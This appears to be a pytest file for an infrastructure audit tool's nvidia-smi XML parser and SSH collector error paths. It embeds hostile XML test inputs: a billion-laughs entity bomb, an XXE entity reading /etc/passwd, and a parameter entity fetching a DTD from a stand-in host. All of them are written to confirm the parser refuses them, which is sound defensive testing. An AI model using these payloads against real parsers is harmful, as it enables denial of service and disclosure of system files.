"""nvidia-smi XML parsing and the collector's error paths, without a network.

The parser reads untrusted text from a host that may be the compromised party: entity tricks,
oversized or garbage output must become an error fact, never a crash or an expansion.
"""

from __future__ import annotations

import asyncio
import json

import pytest

from oobaudit.collectors import host as H
from oobaudit.collectors.host import (
    HOST_DRIVER,
    HOST_GPU,
    HOST_NVIDIA_SMI,
    HostError,
    RunResult,
    SmiParseError,
    collect_host,
    parse_nvidia_smi,
    report_facts,
    safe_parse,
)
from oobaudit.inventory import Credentials, InBand, Target
from oobaudit.secrets import SecretRef

from .sample import SAMPLE

PW_ENV = "OOBAUDIT_TEST_HOST_PW"
PASSWORD = "Host-Sentinel-9c1e44"


def _target(host: bool = True, env: str = PW_ENV) -> Target:
    inband = InBand("127.0.0.1", 2222, Credentials("gpuadmin", SecretRef("env", env))) if host else None
    return Target(name="t1", address="127.0.0.1", ports={"https": 443}, platform="hgx-h100", site="s", rack="r",
                  host=inband)


# --------------------------------------------------------------------------- parsing


def test_parses_the_sample_in_the_real_shape() -> None:
    r = parse_nvidia_smi(SAMPLE)
    assert (r.driver_version, r.cuda_version, r.attached_gpus) == ("550.90.07", "12.4", 2)
    assert r.timestamp == "Tue Jun 11 09:12:44 2024"
    g0, g1 = r.gpus
    assert g0 == {
        "index": 0, "gpu_id": "00000000:18:00.0", "pci_bus_id": "00000000:18:00.0", "minor_number": "0",
        "serial": "1650000000001", "uuid": "GPU-00000001-0000-0000-0000-000000000001",
        "product_name": "NVIDIA H100 80GB HBM3", "product_architecture": "Hopper",
        "board_part_number": "692-2G520-0200-000", "gpu_part_number": "2330-885-A1", "module_id": "2",
        "vbios_version": "96.00.BC.00.01", "inforom_image": "G520.0200.00.05", "inforom_oem_object": "2.1",
        "inforom_ecc_object": "7.16", "inforom_pwr_object": None, "gsp_firmware_version": "550.90.07",
        "mig_mode": "Disabled", "mig_mode_pending": "Disabled", "cc_mode": "off",
        "cc_mode_source": "inferred:cc_protected_memory_usage", "cc_protected_memory_mib": 0,
    }
    assert g1["serial"] is None and g1["vbios_version"] == "96.00.51.00.0E"
    assert g1["inforom_image"] == "G520.0205.00.02"
    assert g1["module_id"] == "5"  # <platformInfo><module_id> on newer drivers
    assert g1["gsp_firmware_version"] is None  # N/A: GSP disabled
    assert (g1["mig_mode"], g1["cc_mode"], g1["cc_protected_memory_mib"]) == ("Enabled", "on", 73728)


def test_an_explicit_cc_element_wins_over_the_inference() -> None:
    doc = SAMPLE.replace(b"<c2c_mode>N/A</c2c_mode>", b"<c2c_mode>N/A</c2c_mode><conf_compute_mode>DevTools"
                         b"</conf_compute_mode>")
    g0 = parse_nvidia_smi(doc).gpus[0]
    assert (g0["cc_mode"], g0["cc_mode_source"]) == ("devtools", "element:conf_compute_mode")


def test_facts_use_serials_and_fall_back_to_the_index() -> None:
    r = parse_nvidia_smi(SAMPLE)
    run = {"address": "10.0.0.5", "port": 22, "username": "gpuadmin", "command": H.COMMAND, "exit_status": 0,
           "output_bytes": len(SAMPLE), "elapsed_s": 0.5, "host_key": None}
    facts = report_facts(r, run, {"address": "10.0.0.5"})
    assert [(f.kind, f.subject) for f in facts] == [
        (HOST_NVIDIA_SMI, "10.0.0.5:22"), (HOST_DRIVER, "driver"),
        (HOST_GPU, "1650000000001"), (HOST_GPU, "GPU_1")]
    driver = facts[1].data
    assert driver["driver_version"] == "550.90.07" and driver["cuda_version"] == "12.4"
    assert driver["gsp_firmware_versions"] == [
        {"index": 0, "gpu": "1650000000001", "pci_bus_id": "00000000:18:00.0", "gsp_firmware_version": "550.90.07"},
        {"index": 1, "gpu": "GPU_1", "pci_bus_id": "00000000:2A:00.0", "gsp_firmware_version": None}]
    assert facts[0].data["gpus_reported"] == 2 and facts[0].data["attached_gpus"] == 2
    # a serial reported twice (broken or lying host) keeps subjects unique
    dup = parse_nvidia_smi(SAMPLE.replace(b"<serial>N/A</serial>", b"<serial>1650000000001</serial>"))
    assert [f.subject for f in report_facts(dup, run, {}) if f.kind == HOST_GPU] == ["1650000000001", "GPU_1"]


def test_strings_are_cut_to_printable_ascii() -> None:
    doc = SAMPLE.replace(b"<product_name>NVIDIA H800</product_name>",
                         b"<product_name>EVIL\xe2\x80\xae\t\r\n" + b"A" * 500 + b"</product_name>")
    name = parse_nvidia_smi(doc).gpus[1]["product_name"]  # a right-to-left override, control characters
    assert name.isascii() and name.isprintable() and name.startswith("EVIL A") and len(name) <= H.MAX_TEXT


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<nvidia_smi_log><driver_version>&lol9;</driver_version></nvidia_smi_log>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<nvidia_smi_log><driver_version>&x;</driver_version></nvidia_smi_log>
"""
PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [<!ENTITY % p SYSTEM "http://198.18.0.1/evil.dtd"> %p;]>
<nvidia_smi_log/>
"""


@pytest.mark.parametrize("doc", [BOMB, XXE, PARAM], ids=["billion-laughs", "xxe", "parameter-entity"])
def test_entity_tricks_are_refused(doc: bytes) -> None:
    with pytest.raises(SmiParseError, match="refused"):
        parse_nvidia_smi(doc)


def test_the_real_external_doctype_is_accepted_and_not_fetched() -> None:
    # nvidia-smi itself writes <!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd">: accepted, never loaded.
    doc = b'<?xml version="1.0"?>\n<!DOCTYPE nvidia_smi_log SYSTEM "http://198.18.0.1/x.dtd">\n' \
          b"<nvidia_smi_log><driver_version>550.90.07</driver_version></nvidia_smi_log>"
    assert parse_nvidia_smi(doc).driver_version == "550.90.07"


def test_oversized_output_is_refused_before_parsing() -> None:
    with pytest.raises(SmiParseError, match="larger than"):
        parse_nvidia_smi(SAMPLE, max_bytes=len(SAMPLE) - 1)
    big = b"<nvidia_smi_log>" + b"<x/>" * (H.MAX_OUTPUT_BYTES // 4) + b"</nvidia_smi_log>"
    with pytest.raises(SmiParseError, match="larger than"):
        parse_nvidia_smi(big)


def test_deep_nesting_and_element_floods_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    deep = b"<nvidia_smi_log>" + b"<a>" * 100 + b"</a>" * 100 + b"</nvidia_smi_log>"
    with pytest.raises(SmiParseError, match="nested deeper"):
        safe_parse(deep)
    monkeypatch.setattr(H, "MAX_ELEMENTS", 50)
    with pytest.raises(SmiParseError, match="more than 50"):
        safe_parse(b"<nvidia_smi_log>" + b"<x/>" * 60 + b"</nvidia_smi_log>")


@pytest.mark.parametrize("doc, match", [
    (b"", "printed nothing"),
    (b"   \n", "printed nothing"),
    (b"\x00\xff\xfegarbage", "not well-formed"),
    (b"NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver.", "not well-formed"),
    (SAMPLE[: len(SAMPLE) // 2], "not well-formed"),
    (b"<html><body>login</body></html>", "not nvidia-smi XML"),
    (b"<nvidia_smi_log><driver_version>&undefined;</driver_version></nvidia_smi_log>", "not well-formed"),
])
def test_garbage_is_a_parse_error(doc: bytes, match: str) -> None:
    with pytest.raises(SmiParseError, match=match):
        parse_nvidia_smi(doc)


# --------------------------------------------------------------------------- the collector's error paths


def _collect(monkeypatch: pytest.MonkeyPatch, result=None, exc: BaseException | None = None,
             target: Target | None = None) -> list:
    monkeypatch.setenv(PW_ENV, PASSWORD)

    def fake_run(address, port, username, password, **kw):
        assert password.reveal() == PASSWORD and username == "gpuadmin" and port == 2222
        if exc is not None:
            raise exc
        return result

    monkeypatch.setattr(H, "run_command", fake_run)
    out: list = []
    asyncio.run(collect_host(target or _target(), out, timeout=1.0))
    return out


def _only_error(out: list, reason: str) -> str:
    assert [(f.kind, f.ok) for f in out] == [(HOST_NVIDIA_SMI, False)]
    assert out[0].evidence["reason"] == reason and out[0].subject == "127.0.0.1:2222"
    assert PASSWORD not in json.dumps([f.model_dump(mode="json") for f in out])
    return out[0].error


def _res(status: int, stdout: bytes = b"", stderr: bytes = b"") -> RunResult:
    return RunResult(status, stdout, stderr, {"type": "ssh-ed25519", "bits": 256, "sha256": "SHA256:x"}, 0.1)


def test_no_host_block_means_no_fact(monkeypatch: pytest.MonkeyPatch) -> None:
    assert _collect(monkeypatch, target=_target(host=False)) == []


def test_success_gives_run_driver_and_gpu_facts(monkeypatch: pytest.MonkeyPatch) -> None:
    out = _collect(monkeypatch, _res(0, SAMPLE))
    assert [f.kind for f in out] == [HOST_NVIDIA_SMI, HOST_DRIVER, HOST_GPU, HOST_GPU]
    assert all(f.ok and f.collector == "host" for f in out)
    run = out[0].data
    assert run["exit_status"] == 0 and run["username"] == "gpuadmin" and run["host_key"]["sha256"] == "SHA256:x"
    assert out[0].evidence["host_key_verified"] is False
    assert PASSWORD not in json.dumps([f.model_dump(mode="json") for f in out])


def test_exit_127_is_command_missing(monkeypatch: pytest.MonkeyPatch) -> None:
    err = _only_error(_collect(monkeypatch, _res(127, stderr=b"sh: 1: nvidia-smi: not found\n")), "command_missing")
    assert "exit 127" in err and "not found" in err


def test_other_exit_status_is_command_failed(monkeypatch: pytest.MonkeyPatch) -> None:
    err = _only_error(_collect(monkeypatch, _res(9, stderr=b"NVIDIA-SMI has failed because it couldn't "
                                                 b"communicate with the NVIDIA driver.\n")), "command_failed")
    assert "exit status 9" in err and "NVIDIA driver" in err


def test_garbage_output_is_a_parse_error_fact(monkeypatch: pytest.MonkeyPatch) -> None:
    err = _only_error(_collect(monkeypatch, _res(0, b"\x00garbage<<<")), "parse")
    assert err.startswith("nvidia-smi output unusable")
    err = _only_error(_collect(monkeypatch, _res(0, BOMB)), "parse")
    assert "refused" in err


@pytest.mark.parametrize("kind", ["refused", "timeout", "auth", "output_too_large", "closed"])
def test_ssh_failures_become_error_facts_with_the_password_scrubbed(monkeypatch: pytest.MonkeyPatch,
                                                                     kind: str) -> None:
    err = _only_error(_collect(monkeypatch, exc=HostError(kind, f"failed ({PASSWORD})")), kind)
    assert "********" in err


def test_unresolvable_password_is_a_credentials_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OOBAUDIT_TEST_HOST_PW_UNSET", raising=False)
    out: list = []
    asyncio.run(collect_host(_target(env="OOBAUDIT_TEST_HOST_PW_UNSET"), out, timeout=1.0))
    assert [(f.kind, f.evidence["reason"]) for f in out] == [(HOST_NVIDIA_SMI, "credentials")]
    assert "OOBAUDIT_TEST_HOST_PW_UNSET" in out[0].error


def test_a_bug_costs_one_fact_not_the_sweep(monkeypatch: pytest.MonkeyPatch) -> None:
    _only_error(_collect(monkeypatch, exc=ZeroDivisionError()), "internal")


def test_cancellation_is_recorded_then_propagates(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(PW_ENV, PASSWORD)

    def slow(*_a, **_k):
        import time
        time.sleep(0.5)
        return _res(0, SAMPLE)

    monkeypatch.setattr(H, "run_command", slow)
    out: list = []

    async def main() -> None:
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.05):
                await collect_host(_target(), out, timeout=1.0)

    asyncio.run(main())
    assert [(f.kind, f.evidence["reason"]) for f in out] == [(HOST_NVIDIA_SMI, "cancelled")]
